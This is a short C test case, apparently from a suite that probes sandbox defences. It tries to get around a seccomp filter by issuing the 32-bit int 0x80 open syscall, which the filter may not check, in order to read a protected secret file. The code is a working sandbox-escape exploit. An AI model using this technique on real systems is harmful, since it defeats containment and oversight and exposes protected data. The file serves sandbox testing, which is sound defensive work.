/* technique: opens by the 32-bit entry point, whose numbers are others
 * source: seccomp(2): the architecture must be checked; int 0x80
 * success: the content of vault/secret.txt on the output
 * control: none: a 64-bit kernel without IA32 emulation has no such entry, and with it the pointers must fit 32
 * bits
 */
#include "attack.h"
#include <sys/mman.h>

int main(void)
{
#ifdef __x86_64__
	char *path =
		mmap((void *)0x10000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long fd;

	strcpy(path, SECRET_FILE);
	/* 5 is open(2) there. */
	__asm__ volatile("int $0x80" : "=a"(fd) : "a"(5), "b"(path), "c"(0), "d"(0) : "memory");
	return fd < 0 ? 1 : show((int)fd);
#else
	return 1;
#endif
}
